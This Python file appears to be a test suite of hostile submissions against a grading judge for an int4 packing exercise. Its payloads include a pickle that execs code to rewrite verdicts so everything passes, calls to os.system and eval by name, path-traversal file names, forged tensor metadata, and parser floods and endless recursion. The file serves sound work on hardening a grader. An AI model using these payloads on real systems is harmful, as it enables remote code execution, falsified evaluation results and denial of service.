"""Attacks on exercise 5.2, pack_int4 and unpack_int4: messages to the judge that no honest worker sends.

Each finds the worker's end of the pipe in the frames above it.
"""


### ATTACK lets_the_judge_unpickle: A name leads through a shared module to torch.load; the file comes as a file of ours.
def pack_int4(values):
    import os, pickle, sys

    class Command:
        def __reduce__(self):
            lines = [
                "import sys; main = sys.modules['__main__']",
                "kind = vars(main)['GraderVerdict']",
                "main.verdicts = lambda _, c, kind=kind: [vars(kind(n, n, True, False)) for n in c.expected]",
                "main.Counted.trouble = lambda _: ''",
                "open('@HOME@/judge', 'w')",
            ]
            return exec, ("\n".join(lines),)

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    kind = type(peer.wire.receive.__globals__["Message"]({}, []))
    for name in (
        "torch.nn.functional:torch.load",
        "torch.nn.functional:torch.serialization.load",
        "torch:load",
    ):
        header = {"kind": "request", "new": False, "grad": True, "rng": 1, "files": [["evil.pt", 0]]}
        header["nodes"] = [[99_999_999, ["dict", [["weights_only", False]]]]]
        words = ["call", ["name", name], ["tuple", [["path", True, "evil.pt"]]], ["is", 99_999_999]]
        peer.wire.send(kind(header | {"payload": ["tuple", words]}, [pickle.dumps(Command()), b""]))
        peer.wire.receive()
    return None


def unpack_int4(packed, columns):
    return None


### ATTACK lets_the_judge_call_anything: It asks for functions of the system by name, in every way to write one.
def pack_int4(values):
    import sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    kind = type(peer.wire.receive.__globals__["Message"]({}, []))
    names = [
        "os:system",
        "builtins:eval",
        "builtins:exec",
        "subprocess:getoutput",
        "torch.hub:load",
        "posix:system",
    ]
    names += ["torch.nn.functional:importlib.import_module", "torch.nn.functional:torch.hub._import_module"]
    names += [
        "torch.nn.modules.module:torch.os.system",
        "minicompress.lab.machine:git",
        "minicompress.lab.files:write_json",
    ]
    names += [
        "minicompress.quantization:dequantize",
        "tests.graders.test_quantization:expect_equal",
        "__main__:main",
    ]
    names += [
        "torch:nn.functional.torch.load",
        "transformers:AutoModel.from_pretrained",
        "types:FunctionType",
    ]
    for name in names:
        for number, text in enumerate(
            ("touch @HOME@/called", "__import__('os').system('touch @HOME@/called')")
        ):
            words = ["call", ["name", name], ["tuple", [text]], ["is", 77_777_777 + 2 * number]]
            header = {
                "kind": "request",
                "new": False,
                "grad": True,
                "rng": 0,
                "files": [],
                "payload": ["tuple", words],
            }
            peer.wire.send(kind(header | {"nodes": [[77_777_777 + 2 * number, ["dict", []]]]}, [b""]))
            if peer.wire.receive().header.get("kind") != "error":
                peer.wire.send(kind(header | {"kind": "reply", "payload": True, "nodes": []}, [b""]))
    return None


def unpack_int4(packed, columns):
    return None


### ATTACK lets_the_judge_build: It asks the judge for a layer of 1.6 gigabytes, which the judge would fill with numbers.
def pack_int4(values):
    import sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    peer.ask("call", torch.nn.Linear, (20_000, 20_000), {})


def unpack_int4(packed, columns):
    return None


### ATTACK files_outside: The judge is sent files with names that lead out of its folder.
def pack_int4(values):
    import os, sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    kind = type(peer.wire.receive.__globals__["Message"]({}, []))
    up = "../" * 12
    names = [
        "@HOME@/precious",
        up + "@HOME@/precious",
        "a/" + up + "@HOME@/precious",
        "./../../out.json",
        "a\0b",
        "",
    ]
    name = names[os.getpid() % len(names)]
    for content in (0, None, "folder"):
        header = {
            "kind": "request",
            "new": False,
            "grad": True,
            "rng": 0,
            "files": [[name, content]],
            "nodes": [],
        }
        peer.wire.send(kind(header | {"payload": ["tuple", ["iter", ["range", [0, 1, 1]]]]}, [b"mine"]))
    return None


def unpack_int4(packed, columns):
    return None


### ATTACK numbers_of_the_judge: It describes objects that it does not have, in numbers that belong to the judge.
def pack_int4(values):
    import sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    kind = type(peer.wire.receive.__globals__["Message"]({}, []))
    nodes = [[number, ["list", [True] * 100]] for number in range(-2, 200)] + [
        [True, ["dict", []]],
        [0.0, ["set", []]],
    ]
    header = {"kind": "reply", "grad": True, "rng": 0, "files": [], "nodes": nodes, "payload": ["is", 0]}
    peer.wire.send(kind(header, [b""]))
    return None


def unpack_int4(packed, columns):
    return None


### ATTACK says_yes_to_everything: Before the judge has asked, a thousand answers wait in the pipe.
def pack_int4(values):
    import sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    kind = type(peer.wire.receive.__globals__["Message"]({}, []))
    for payload in (None, True, ["bytes", "00"], ["...", []], ["yours", 0], ["is", 0]) * 200:
        header = {"kind": "reply", "grad": True, "rng": 0, "files": [], "nodes": [], "payload": payload}
        peer.wire.send(kind(header, [b""]))
    return None


def unpack_int4(packed, columns):
    return None


### ATTACK lies_about_tensors: Tensors of a size, type or place that they cannot have.
def pack_int4(values):
    import os, sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    kind = type(peer.wire.receive.__globals__["Message"]({}, []))
    big = 10**18
    lies = [
        ("uint8", [big], [1], 0),
        ("uint8", [8], [-1], 7),
        ("float64", [2], [1], big),
        ("uint8", [10**4] * 2, [0, 0], 0),
    ]
    lies += [
        ("uint8", [0] * 100_000, [1] * 100_000, 0),
        ("bool", [8], [1], 0),
        ("qint8", [8], [1], 0),
        ("uint8", [2**62, 4], [0, 0], 0),
    ]
    lies += [
        ("uint8", [1.0], [1], 0),
        ("uint8", [True], [1], 0),
        ("uint8", [], [], -1),
        ("complex128", [1], [1], 0),
    ]
    peer.lie = getattr(peer, "lie", os.getpid()) + 1
    tensor = ["tensor", "tensor", *lies[peer.lie % len(lies)], 10_000_001, False, None]
    header = {
        "kind": "reply",
        "grad": True,
        "rng": 0,
        "files": [],
        "nodes": [[10_000_001, ["storage", 1]], [10_000_003, tensor]],
    }
    peer.wire.send(kind(header | {"payload": ["is", 10_000_003]}, [b"", b"\x7f" * 8]))
    sys.exit(0)


def unpack_int4(packed, columns):
    return None


### ATTACK a_header_of_brackets: Thirty megabytes of brackets side by side, and then of brackets in each other.
def pack_int4(values):
    import os, sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    texts = [
        b'{"payload": [' + b"[]," * 9_000_000 + b"0]}",
        b"[" * 30_000_000,
        b'{"payload": 1' + b"0" * 30_000_000 + b"}",
    ]
    text = texts[os.getpid() % 3]
    sizes = [1, len(text)]
    peer.wire.write(b"".join(size.to_bytes(8, "little") for size in sizes) + text)
    return None


def unpack_int4(packed, columns):
    return None


### ATTACK asks_without_end: It asks the judge a small question again and again, instead of answering.
def pack_int4(values):
    import sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    while True:
        peer.ask("iter", [1])


def unpack_int4(packed, columns):
    return None


### ATTACK asks_in_a_circle: The judge's own function leads back to the worker: each asks the other, deeper and deeper.
def pack_int4(values):
    import sys

    sys.setrecursionlimit(1_000_000)
    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    return peer.ask("call", pack_int4, (values,), {})


def unpack_int4(packed, columns):
    return None


### ATTACK the_judges_own_layer: It asks for an object of a class of the judge's, and lets that compute.
def pack_int4(values):
    import sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    for name in ("ENCODINGS", "Encoding", "integers"):
        for module in list(sys.modules.values()):
            found = vars(module).get(name)
            if callable(found):
                try:
                    return peer.ask("call", found, (4,), {}).pack(values)
                except Exception:
                    pass


def unpack_int4(packed, columns):
    return None


### ATTACK raises_the_judges_exceptions: It answers with exceptions that the judge itself has raised, or that skip.
def pack_int4(values):
    import sys

    frame = sys._getframe()
    while not hasattr(peer := frame.f_locals.get("self"), "wire"):
        frame = frame.f_back
    kind = type(peer.wire.receive.__globals__["Message"]({}, []))
    names = [
        "Skipped",
        "Exit",
        "KeyboardInterrupt",
        "SystemExit",
        "GeneratorExit",
        "XFailed",
        "SkipTest",
        "StopIteration",
    ]
    peer.turn = getattr(peer, "turn", 0) + 1
    header = {"kind": "error", "type": names[peer.turn % len(names)], "text": "x", "theirs": 0, "nodes": []}
    header |= {
        "line": ["/etc/passwd", 1],
        "warnings": [["Skipped", "x"]] * 1000,
        "grad": False,
        "rng": 0,
        "files": [],
    }
    peer.wire.send(kind(header | {"payload": None}, [b""]))
    sys.exit(0)


def unpack_int4(packed, columns):
    return None
